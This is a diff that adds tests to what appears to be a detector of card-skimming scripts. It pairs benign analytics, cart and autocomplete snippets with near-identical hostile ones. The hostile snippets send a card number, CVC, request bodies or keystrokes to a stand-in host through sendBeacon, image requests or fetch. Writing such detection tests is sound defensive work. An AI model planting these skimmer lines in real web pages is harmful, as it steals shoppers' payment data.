@@ -96,3 +96,41 @@ it('is benign to decode and escape texts without a page, whatever the words', ()
   const code = `const hex = '0123456789abcdef'; export function escape(text) { let out = ''; for (let at = 0; at < text.length; at++) { const code = text.charCodeAt(at); out += code < 128 ? text[at] : '%' + hex[code >> 4] + hex[code & 15] } return encodeURIComponent(out) } export const read = (bytes) => { let s = ''; for (const b of bytes) s += String.fromCharCode(b ^ 85); return decodeURIComponent(unescape(s)) }`
   expect(verdict(code)).toBe('benign')
 })
+
+describe('code that looks like a theft, and takes nothing', () => {
+  const service = 'https://in.page-speeds.example/v1'
+  it.each([
+    [
+      'measures the requests of a page',
+      `var f = window.fetch; window.fetch = function (what, how) { navigator.sendBeacon('${service}', JSON.stringify({ verb: (how || {}).method, bytes: how && how.body && (how.body.size || how.body.length) })); return f.apply(this, arguments) }`,
+    ],
+    [
+      'suggests streets, and moves among them by keys',
+      `var box = document.querySelector('#street'); box.addEventListener('keydown', function (e) { if (e.key === 'ArrowDown') return next(); fetch('https://api.street-names.example/?q=' + encodeURIComponent(box.value)).then(function (r) { return r.json() }).then(show) }); function next() {} function show(list) { box.title = list.length }`,
+    ],
+    [
+      'puts a product into Shopify’s cart',
+      `document.querySelector('form.product').onsubmit = function (e) { e.preventDefault(); fetch('/cart/add.js', { method: 'POST', body: new FormData(this) }) }`,
+    ],
+    [
+      'tells analytics the chosen way to ship',
+      `document.addEventListener('change', function (e) { if (e.target.name === 'shipping') dataLayer.push({ event: 'add_shipping_info', tier: e.target.value }); e.target.type == 'radio' && dataLayer.push({ choice: e.target.value }) })`,
+    ],
+    [
+      'tells analytics a hashed phone number',
+      `(async () => { const field = document.querySelector('[name=mobile], input[type=tel]'); gtag('set', 'user_data', { phone: await digest(field.value) }) })(); async function digest(text) { return [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].join() }`,
+    ],
+    [
+      'waits for a library that it loads',
+      `window.maps = { use: function (name) { return ready().then(function () { return maps.use(name) }) } }; function ready() { return new Promise(function (done) { var s = document.createElement('script'); s.src = 'https://maps.googleapis.com/maps/api/js'; s.onload = done; document.head.append(s) }) } maps.use('places')`,
+    ],
+  ])('is benign if it %s', (_, code) => expect(verdict(code)).toBe('benign'))
+
+  it.each([
+    `document.addEventListener('change', function (e) { if (e.target.name === 'cc-number') navigator.sendBeacon('${service}', e.target.value) })`,
+    `document.addEventListener('input', ({ target }) => { target.autocomplete == 'cc-csc' && (new Image().src = '${service}?' + target.value) })`,
+    `document.addEventListener('change', function (e) { if (e.target.name === 'cc-number') dataLayer.push({ tier: e.target.value }) })`,
+    `var f = window.fetch; window.fetch = function (what, how) { navigator.sendBeacon('${service}', how.body); return f.apply(this, arguments) }`,
+    `var box = document.querySelector('#street'); box.addEventListener('keydown', function (e) { fetch('https://api.street-names.example/?q=' + e.key) })`,
+  ])('is not if it does the same with the card: %s', (code) => expect(verdict(code)).not.toBe('benign'))
+})
